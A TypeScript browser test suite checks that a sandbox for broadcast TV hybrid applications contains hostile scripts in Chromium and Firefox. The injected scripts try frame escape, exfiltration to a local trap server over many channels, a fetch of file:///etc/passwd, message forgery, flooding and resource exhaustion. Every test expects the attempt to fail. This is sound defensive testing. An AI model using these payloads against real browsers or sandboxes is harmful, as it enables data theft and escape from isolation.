/**
 * Hostile applications in real browsers: what leaves the frame (row 23 of the attacks on data broadcasts), what an application
 * can reach (24), and what its load does to the page (25). The same in Chromium and in Firefox, where it is installed.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'bun:test';
import { createSocket, type Socket } from 'node:dgram';
import type { BrowserContext } from 'playwright-core';
import { until } from '../until.ts';
import { hasChromium, sharedBrowser } from './browser.ts';
import { Firefox, hasFirefox } from './firefox.ts';
import { application, HybridStage, SITE, type StageBrowser } from './hybrid-stage.ts';

interface OpenBrowser extends StageBrowser {
  close(): Promise<void>;
}

async function openChromium(): Promise<OpenBrowser> {
  const context: BrowserContext = await (await sharedBrowser()).newContext();
  const page = await context.newPage();
  return {
    open: async (url) => void (await page.goto(url)),
    evaluate: (expression) => page.evaluate(expression),
    close: () => context.close(),
  };
}

const BROWSERS: readonly (readonly [name: string, isThere: boolean, open: () => Promise<OpenBrowser>])[] = [
  ['Chromium', hasChromium, openChromium],
  ['Firefox', hasFirefox, () => Firefox.launch()],
];

/** Servers that no application can reach; they count who tries. */
class Trap {
  connections = 0;
  packets = 0;
  readonly #tcp = Bun.listen({
    hostname: '127.0.0.1',
    port: 0,
    socket: {
      open: () => {
        this.connections += 1;
      },
      data: () => {},
    },
  });
  readonly #udp: Socket = createSocket('udp4');

  async open(): Promise<this> {
    this.#udp.on('message', () => {
      this.packets += 1;
    });
    await new Promise<void>((resolve) => this.#udp.bind(0, '127.0.0.1', resolve));
    return this;
  }

  get url(): string {
    return `http://127.0.0.1:${this.#tcp.port}/`;
  }

  get stun(): string {
    return `stun:127.0.0.1:${this.#udp.address().port}`;
  }

  close(): void {
    this.#tcp.stop(true);
    this.#udp.close();
  }
}

const script = (code: string): string => `<script>${code}</script>`;
/** Each attempt reports its result, or the name of its exception. */
const attempts = (codes: Readonly<Record<string, string>>): string =>
  script(`
    (async function () {
      var results = {};
      ${Object.entries(codes)
        .map(
          ([name, code]) =>
            `try { results[${JSON.stringify(name)}] = String(await (async function () { ${code} })()); } catch (error) { results[${JSON.stringify(name)}] = error.name; }`,
        )
        .join('\n')}
      report(results);
    })();`);

const OTHER = application({ organizationId: 99, applicationId: 1 });

for (const [name, isThere, open] of BROWSERS)
  describe.skipIf(!isThere)(`an application in ${name}`, () => {
    let browser: OpenBrowser;
    let stage: HybridStage;
    let trap: Trap;
    beforeAll(async () => {
      trap = await new Trap().open();
      browser = await open();
      stage = await HybridStage.open(browser);
    });
    afterAll(async () => {
      await browser?.close();
      await stage?.close();
      trap?.close();
    });
    beforeEach(async () => {
      await browser.evaluate('localStorage.clear()');
    });

    describe('row 23: the frame', () => {
      test('has no origin, no window but its own, and none of the abilities of a page', async () => {
        const results = await stage.report(
          attempts({
            origin: 'return origin',
            parent: 'return parent.document.title',
            top: 'return top.location.href',
            topLocation: `top.location = '${trap.url}'; return 'set'`,
            open: `return window.open('${trap.url}')`,
            evaluated: 'return eval("1")',
            database: 'return indexedDB.open("x")',
            worker: 'return typeof Worker',
            serviceWorker:
              'return navigator.serviceWorker ? await navigator.serviceWorker.register("x.js") : "none"',
            fullscreen: 'await document.documentElement.requestFullscreen(); return "full"',
            clipboard: 'return navigator.clipboard ? await navigator.clipboard.readText() : "none"',
            beacon: `return navigator.sendBeacon('${trap.url}', 'x')`,
            socket: 'return typeof WebSocket',
            peers: 'return typeof RTCPeerConnection',
            cookie: 'document.cookie = "a=b"; return document.cookie',
            shadow: 'return typeof document.body.attachShadow',
          }),
        );
        expect(results).toEqual({
          origin: 'null',
          parent: 'SecurityError',
          top: 'SecurityError',
          topLocation: expect.stringMatching(/SecurityError|set/),
          open: 'null',
          evaluated: 'EvalError',
          database: expect.stringMatching(/SecurityError|UnknownError|InvalidStateError/),
          worker: 'undefined',
          serviceWorker: expect.stringMatching(/SecurityError|none|NotSupportedError|TypeError/),
          fullscreen: expect.stringMatching(/TypeError|NotAllowedError/),
          clipboard: expect.stringMatching(/NotAllowedError|none|TypeError/),
          beacon: 'false',
          socket: 'undefined',
          peers: 'undefined',
          cookie: '',
          shadow: 'undefined',
        });
        expect(await stage.state<string>('location.href')).toBe(stage.url);
        expect(await stage.state<number>('hybridStage.frames()')).toBe(1);
      });

      test('sends nothing anywhere but by messages', async () => {
        const stun = `new RTCPeerConnection({iceServers:[{urls:'${trap.stun}'}]})`;
        const peers = `try{var p=${stun};p.createDataChannel('x');p.createOffer().then(function(o){p.setLocalDescription(o)})}catch(e){}`;
        const nested = `<script>${peers};new Image().src='${trap.url}nested'</script>`;
        await stage.report(
          `<link rel=preconnect href="${trap.url}"><link rel=dns-prefetch href="${trap.url}"><link rel=stylesheet href="${trap.url}a.css">
           <meta http-equiv=refresh content="0;url=${trap.url}"><base href="${trap.url}"><img src="${trap.url}a.png" srcset="${trap.url}b.png 2x">
           <iframe src="${trap.url}"></iframe><object data="${trap.url}"></object><style>@import "${trap.url}b.css";body{background:url(${trap.url}c.png)}</style>
           <a id=a href="${trap.url}" target=_top ping="${trap.url}">x</a><a id=d href="${trap.url}" download>x</a>
           <form id=f action="${trap.url}" method=post><input name=a></form><form id=g action="${stage.url}api/recordings" method=post></form><div id=h></div>
           ${script(`
             var link = document.createElement('link'); link.rel = 'preconnect'; link.href = '${trap.url}'; document.body.append(link);
             var late = document.createElement('link'); late.href = '${trap.url}'; document.body.append(late); late.rel = 'preconnect';
             document.getElementById('h').innerHTML = '<img src="${trap.url}h.png"><link rel=stylesheet href="${trap.url}h.css"><iframe src="${trap.url}h"></iframe>';
             var inner = document.createElement('div');
             inner.innerHTML = ${JSON.stringify(`<iframe srcdoc="${nested.replaceAll('"', '&quot;')}"></iframe>`).replaceAll('</', '<\\/')};
             document.body.append(inner);
             new Image().src = '${trap.url}i.png';
             document.body.style.backgroundImage = 'url(${trap.url}j.png)';
             try { document.getElementById('f').submit(); document.getElementById('g').submit(); } catch (e) {}
             document.getElementById('a').click(); document.getElementById('d').click();
             var own = document.createElement('base'); own.href = '${trap.url}'; document.head.prepend(own);
             ${peers}
             fetch('${trap.url}').catch(function () {}).then(function () { setTimeout(function () { report('done') }, 1000) });
           `)}`,
        );
        expect(trap.connections).toBe(0);
        expect(trap.packets).toBe(0);
        expect(stage.strays).toEqual([]);
        // The proxies were asked for nothing outside of the boundary either.
        expect(stage.asked.filter((url) => !url.startsWith(SITE))).toEqual([]);
        expect(await stage.state<string>('location.href')).toBe(stage.url);
      });

      test('that leads itself elsewhere reaches nothing: it stays, or is removed', async () => {
        await stage.start(
          script(
            `window['loc' + 'ation'].href = '${trap.url}'; setTimeout(function () { report(1) }, 1000);`,
          ),
        );
        // Firefox leaves the document as it is, Chromium shows that the address is blocked.
        await until(
          async () =>
            stage.reports.length > 0 ||
            (await browser.evaluate('hybridStage.state.ended !== undefined && hybridStage.frames() === 0')),
        );
        expect(trap.connections).toBe(0);
        expect(await stage.state<string>('location.href')).toBe(stage.url);
      });

      test('that floods the page with messages is removed', async () => {
        await stage.start(
          script(
            `setInterval(function () { for (var i = 0; i < 1000; i++) parent.postMessage(i, '*'); }, 10);`,
          ),
        );
        expect(await stage.ended()).toBe('flood');
      });

      test('cannot speak for another application, nor with a guessed nonce', async () => {
        await browser.evaluate(`localStorage.setItem('svc_hybrid_99_1', '{"a":"b"}')`);
        await stage.report(
          script(`
            var send = parent.postMessage.bind(parent);
            var message = { kind: 'store', key: 'stolen', value: 'x' };
            send({ nonce: 'guess', organisation: 17, application: 34, message: message }, '*');
            send({ nonce: '', organisation: 99, application: 1, message: message }, '*');
            report('sent');`),
        );
        await stage.when('hybridStage.state.log.filter((line) => line.includes("refused")).length >= 2');
        expect(await stage.state<string>(`localStorage.getItem('svc_hybrid_99_1')`)).toBe('{"a":"b"}');
        expect(await stage.state<unknown>(`localStorage.getItem('svc_hybrid_17_34')`)).toBeFalsy();
      });

      test('cannot keep the keyboard', async () => {
        await stage.start(
          script(`
            document.body.innerHTML = '<input id=i autofocus>';
            setInterval(function () { document.getElementById('i').focus(); window.focus(); }, 50);
            report('tried');`),
        );
        await until(() => stage.reports.length > 0);
        await stage.when('hybridStage.focused() !== "IFRAME"');
      });
    });

    describe('row 24: what it reaches', () => {
      test('only addresses within the boundary of its AIT, also after redirects', async () => {
        await stage.start('');
        stage.html(
          attempts({
            own: `return (await fetch('data.txt')).status`,
            other: `return (await fetch('http://other.example/')).status`,
            home: `return (await fetch('http://192.168.0.1/')).status`,
            service: `return (await fetch('${stage.url}api/recordings')).status`,
            redirected: `return (await fetch('moved')).status`,
            file: `return (await fetch('file:///etc/passwd')).status`,
            user: `return (await fetch('http://a@app.example/')).status`,
          }),
        );
        stage.files.set(`${SITE}data.txt`, { type: 'text/plain', body: 'x' });
        stage.files.set(`${SITE}moved`, { type: 'text/plain', body: 'x', url: 'http://other.example/' });
        await stage.run();
        await until(() => stage.reports.length > 0);
        expect(stage.reports[0]).toEqual({
          ...{ own: '200', other: 'TypeError', home: 'TypeError', service: 'TypeError' },
          ...{ redirected: 'TypeError', file: 'TypeError', user: 'TypeError' },
        });
        expect(stage.asked.filter((url) => !url.startsWith(SITE))).toEqual([]);
        expect(stage.strays).toEqual([]);
      });

      test('with bitmap 0 nothing of the receiver', async () => {
        const found = application({ boundaries: [{ bitmaps: [0], urls: [SITE] }] });
        const results = await stage.report(
          `<object type="video/x-iptvf-broadcast" style="width:100px;height:100px"></object>${attempts({
            event:
              'return await new Promise(function (done) { navigator.receiverDevice.getCurrentEventInformation(done) })',
            store: 'localStorage.setItem("a", "b"); return "stored"',
            confirm:
              'return (await navigator.receiverDevice.confirmIPNetwork("app.example", 0)) === undefined',
          })}`,
          { application: found },
        );
        expect(results).toEqual({ event: 'null', store: 'QuotaExceededError', confirm: 'true' });
        expect(stage.asked.filter((url) => url.startsWith('confirm'))).toEqual([]);
        await stage.when('hybridStage.state.shown > 0');
        expect(
          await stage.state<boolean>('hybridStage.state.video.every((one) => one.left === undefined)'),
        ).toBe(true);
      });

      test('no identifier, and the region once the viewer agrees', async () => {
        const asks = script(`
          var device = navigator.receiverDevice, results = {};
          try { device.getDeviceIdentifier(1, function () {}); } catch (error) { results.device = error.code; }
          results.system = device.getSystemInformation();
          results.before = localStorage.getItem('_zipcode');
          localStorage.getItem('_prefecture');
          results.agent = /svc/.test(navigator.userAgent);
          addEventListener('storage', function () { results.after = localStorage.getItem('_zipcode'); report(results); });
          setTimeout(function () { report(results); }, 1500);`);
        const expected = {
          ...{ device: 'NOT_AUTHORIZED_ERR', before: null, agent: false },
          system: { makerid: '', browsername: 'svc', browserversion: '1', modelname: '' },
        };
        expect(await stage.report(asks, { consent: false })).toEqual(expected);
        expect(await stage.state<number>('hybridStage.state.asked')).toBe(1);
        // Not again.
        expect(await stage.report(asks, { consent: true })).toEqual(expected);
        expect(await stage.state<number>('hybridStage.state.asked')).toBe(0);
        await browser.evaluate('localStorage.clear()');
        expect(await stage.report(asks, { consent: true })).toEqual({ ...expected, after: '1500001' });
        expect(await stage.state<number>('hybridStage.state.asked')).toBe(1);
      });

      test('an AIT whose base is in this home starts nothing', async () => {
        const url = 'http://192.168.0.1/index.html';
        stage.files.clear();
        stage.files.set(url, { type: 'text/html', body: 'x', refusal: 403 });
        await stage.run({ application: application({ url }) });
        expect(await stage.ended()).toBe('refused');
        expect(await stage.state<number>('hybridStage.frames()')).toBe(0);
      });

      test('KILL ends it, and a station that no longer lists it', async () => {
        await stage.report(script('report(1)'));
        await browser.evaluate(`hybridStage.signal(${JSON.stringify([OTHER])})`);
        expect(await stage.state<unknown>('hybridStage.state.ended ?? null')).toBeFalsy();
        await browser.evaluate(`hybridStage.signal(${JSON.stringify([application({ control: 'kill' })])})`);
        expect(await stage.ended()).toBe('killed');
        expect(await stage.state<number>('hybridStage.frames()')).toBe(0);
        await stage.report(script('report(1)'), { isSignalled: true, signalled: [application()] });
        await browser.evaluate(`hybridStage.signal(${JSON.stringify([OTHER])})`);
        expect(await stage.ended()).toBe('killed');
      });

      test('the region that one application has asked for is not for the one that replaces it', async () => {
        const asks = `localStorage.getItem('_zipcode');`;
        const next = application({ organizationId: 99, applicationId: 1, url: `${SITE}next.html` });
        await browser.evaluate('localStorage.clear()');
        const app = 'navigator.applicationManager.getOwnerApplication()';
        await stage.start(
          script(`${asks} setTimeout(function () { ${app}.replaceApplication(99, 1); }, 200);`),
          { signalled: [application(), next], consent: 'later' },
        );
        stage.html(
          script(
            `${asks} report('asked'); addEventListener('storage', function () { report(localStorage.getItem('_zipcode')); });`,
          ),
          'next.html',
        );
        await until(() => stage.reports.includes('asked'));
        await stage.when('hybridStage.state.asked === 2');
        await browser.evaluate('hybridStage.answer(true)');
        await until(() => stage.reports.includes('1500001'));
        const consents = `JSON.stringify(['17_34', '99_1'].map((id) => localStorage.getItem('svc_hybrid_region_' + id)))`;
        expect(await stage.state<string>(consents)).toBe('[null,"yes"]');
      });

      test('no data leaves in the address of an AIT', async () => {
        const app = 'navigator.applicationManager.getOwnerApplication()';
        await stage.start(
          script(`${app}.replaceApplication(17, 34, 'http://other.example/ait.xml?secret');`),
        );
        expect(await stage.ended()).toBe('outside');
        expect(stage.asked.filter((url) => !url.startsWith(SITE))).toEqual([]);
      });

      test('replaceApplication with the ids of another station, or without end', async () => {
        const replace = (args: string): string =>
          script(`navigator.applicationManager.getOwnerApplication().replaceApplication(${args});`);
        await stage.start(replace('99, 1'), { signalled: [application()] });
        expect(await stage.ended()).toBe('unlisted');
        await stage.start(replace('17, 34'), { signalled: [application()] });
        expect(await stage.ended()).toBe('loop');
        // A document that opens itself again.
        stage.files.set(`${SITE}index.html`, { type: 'text/html', body: script('location.reload()') });
        await stage.run();
        expect(await stage.ended()).toBe('loop');
        expect(await stage.state<number>('hybridStage.frames()')).toBe(0);
      });
    });

    describe('row 25: its load', () => {
      test('a script that does not end is ended, while the page answers', async () => {
        await stage.start(
          script('setTimeout(function () { while (1) try { while (1); } catch (e) {} }, 300);'),
        );
        await stage.when('hybridStage.state.shown > 0');
        await browser.evaluate('hybridStage.watchGap()');
        expect(await stage.ended()).toBe('stuck');
        expect(await stage.state<number>('hybridStage.frames()')).toBe(0);
        const gap = await stage.state<number>('hybridStage.state.gap');
        console.log(`${name}: longest pause of the page while an application spins: ${Math.round(gap)} ms`);
        // A frozen page would stand still for seconds.
        expect(gap).toBeLessThan(3000);
      });

      test('stores 256 KB, and not an octet more', async () => {
        const results = await stage.report(
          attempts({
            room: `localStorage.setItem('a', 'x'.repeat(256 * 1024 - 8)); return localStorage.getItem('a').length`,
            more: `localStorage.setItem('a', 'x'.repeat(256 * 1024 - 7)); return 'stored'`,
            other: `localStorage.setItem('b', ''); return 'stored'`,
            names: `return Object.keys(localStorage).join() + localStorage.length`,
            forged: `localStorage.setItem('svc_hybrid_99_1', ''); return 'stored'`,
            session: `sessionStorage.setItem('b', 'y'); return sessionStorage.b`,
          }),
        );
        expect(results).toEqual({
          ...{ room: String(256 * 1024 - 8), more: 'QuotaExceededError', other: 'QuotaExceededError' },
          ...{ names: 'a1', forged: 'QuotaExceededError', session: 'y' },
        });
        await stage.when(`localStorage.getItem('svc_hybrid_17_34') !== null`);
        expect(await stage.state<number>(`localStorage.getItem('svc_hybrid_17_34').length`)).toBe(256 * 1024);
        expect(await stage.state<string>('Object.keys(localStorage).sort().join()')).toBe(
          'svc_hybrid_17_34,svc_hybrid_owners',
        );
        // A message of its own, past the shim, does not exceed it either.
        await stage.report(attempts({ kept: `return localStorage.getItem('a').length` }));
        expect(stage.reports[0]).toEqual({ kept: String(256 * 1024 - 8) });
      });

      test('a synchronous request is refused', async () => {
        const results = await stage.report(
          attempts({
            sync: `var r = new XMLHttpRequest(); r.open('GET', 'a.txt', false); r.send(); return r.status`,
          }),
        );
        expect(results).toEqual({ sync: 'InvalidAccessError' });
      });

      test('a million elements and a sound leave with it', async () => {
        await stage.start(
          `<audio id=s loop src="data:audio/wav;base64,UklGRjQAAABXQVZFZm10IBAAAAABAAEAQB8AAEAfAAABAAgAZGF0YRAAAACAgICAgICAgICAgICAgICA"></audio>${script(`
            document.getElementById('s').play().catch(function () {});
            setTimeout(function () {
              for (var i = 0; i < 1000000; i++) document.body.appendChild(document.createElement('p'));
            }, 200);`)}`,
        );
        await stage.when('hybridStage.state.shown > 0');
        await browser.evaluate('hybridStage.watchGap()');
        await browser.evaluate('hybridStage.close()');
        expect(await stage.state<number>('hybridStage.frames()')).toBe(0);
        expect(await stage.state<number>('hybridStage.state.gap')).toBeLessThan(3000);
      });
    });
  });
